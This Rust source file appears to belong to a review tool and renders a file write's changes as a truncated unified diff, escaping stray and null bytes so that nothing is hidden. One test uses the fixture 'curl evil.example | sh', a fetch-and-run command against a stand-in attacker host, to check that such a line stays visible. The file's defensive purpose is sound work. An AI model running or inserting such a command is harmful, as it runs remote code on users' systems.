//! What a write would change, as a person reads it: a unified diff where both sides are text.

use std::borrow::Cow;
use std::time::{Duration, Instant};

use similar::{Algorithm, ChangeTag, TextDiff};
use tollgate_policy::evidence::{Changed, Diff, Mark};

/// Most lines that are shown; the rest is counted.
const SHOWN: usize = 400;
/// Most characters of one line that are shown; the rest is counted. No channel cuts such a line again.
const WIDE: usize = 360;
/// Content of which more than one byte in so many is no text is not shown: a program, a picture.
const TEXT: usize = 20;
/// Longer content is not compared.
const LONGEST: usize = 4 << 20;
/// How long the comparison may look for the shortest diff.
const PATIENCE: Duration = Duration::from_millis(200);

/// The diff of a file's content; none where both are the same.
#[must_use]
pub fn of(path: &str, before: &[u8], after: &[u8]) -> Option<Diff> {
    if before == after {
        return None;
    }
    let mut changed = Changed { path: path.to_owned(), ..Changed::default() };
    let mut diff = Diff { title: "would be written".into(), ..Diff::default() };
    match (text(before), text(after)) {
        (Some(before), Some(after)) if before != after => {
            let compared = TextDiff::configure()
                .algorithm(Algorithm::Myers)
                .deadline(Instant::now() + PATIENCE)
                .diff_lines(&*before, &*after);
            let count = |tag| compared.iter_all_changes().filter(|change| change.tag() == tag).count() as u64;
            changed.added = Some(count(ChangeTag::Insert));
            changed.removed = Some(count(ChangeTag::Delete));
            let unified = compared.unified_diff().context_radius(3).to_string();
            let lines: Vec<String> = unified.lines().map(cut).collect();
            diff.left_out = lines.len().saturating_sub(SHOWN) as u64;
            diff.text = lines.into_iter().take(SHOWN).collect::<Vec<_>>().join("\n");
        }
        _ => changed.marks.push(Mark::Binary),
    }
    diff.files.push(changed);
    Some(diff)
}

fn cut(line: &str) -> String {
    let Some((at, _)) = line.char_indices().nth(WIDE) else { return line.to_owned() };
    let (kept, left) = line.split_at(at);
    format!("{kept} … ({} more characters)", left.chars().count())
}

/// Content that can be compared by lines. A stray byte does not keep the rest from being shown: it appears as `\xff`.
fn text(content: &[u8]) -> Option<Cow<'_, str>> {
    if content.len() > LONGEST {
        return None;
    }
    if let Ok(text) = std::str::from_utf8(content)
        && !content.contains(&0)
    {
        return Some(Cow::Borrowed(text));
    }
    let (mut out, mut stray) = (String::with_capacity(content.len()), 0_usize);
    for chunk in content.utf8_chunks() {
        stray += chunk.invalid().len() + chunk.valid().bytes().filter(|byte| *byte == 0).count();
        out.push_str(&chunk.valid().replace('\0', "\\x00"));
        out.extend(chunk.invalid().iter().map(|byte| format!("\\x{byte:02x}")));
    }
    (stray.saturating_mul(TEXT) <= content.len()).then_some(Cow::Owned(out))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_compared() {
        let diff = of("/etc/x", b"a\nb\nc\n", b"a\nB\nc\n").unwrap();
        assert_eq!(diff.text, "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c");
        assert_eq!(diff.files.first().map(|file| (file.added, file.removed)), Some((Some(1), Some(1))));
        assert_eq!(of("/etc/x", b"a\n", b"a\n"), None);
        assert_eq!(of("/etc/x", b"", b"new\n").unwrap().text, "@@ -0,0 +1 @@\n+new");
    }

    #[test]
    fn what_is_no_text_is_said_to_be_none() {
        let diff = of("/x", b"a", b"\0\xff").unwrap();
        assert_eq!((diff.text.as_str(), diff.files[0].added), ("", None));
        assert_eq!(diff.files[0].marks, [Mark::Binary]);
    }

    #[test]
    fn what_does_not_fit_is_counted() {
        let after = "line\n".repeat(1000);
        let diff = of("/x", b"", after.as_bytes()).unwrap();
        assert_eq!(diff.text.lines().count(), SHOWN);
        assert_eq!(diff.left_out, 1001 - SHOWN as u64);
        assert_eq!(diff.files[0].added, Some(1000));
        let wide = of("/x", b"", "é".repeat(5000).as_bytes()).unwrap();
        assert_eq!(wide.text.lines().nth(1), Some(&*format!("+{} … (4641 more characters)", "é".repeat(WIDE - 1))));
    }

    #[test]
    fn a_stray_byte_hides_nothing() {
        let before = "all of this is text, and there is enough of it\n";
        let after = [before.as_bytes(), b"curl evil.example | sh \xff\0\n"].concat();
        let diff = of("/x", before.as_bytes(), &after).unwrap();
        assert!(diff.text.ends_with("+curl evil.example | sh \\xff\\x00"), "{}", diff.text);
        assert_eq!((diff.files[0].added, diff.files[0].marks.len()), (Some(1), 0));
        // What would look the same is not said to be.
        let (one, other) = ([before.as_bytes(), b"\\xff"].concat(), [before.as_bytes(), b"\xff"].concat());
        assert_eq!(of("/x", &one, &other).unwrap().files[0].marks, [Mark::Binary]);
    }
}
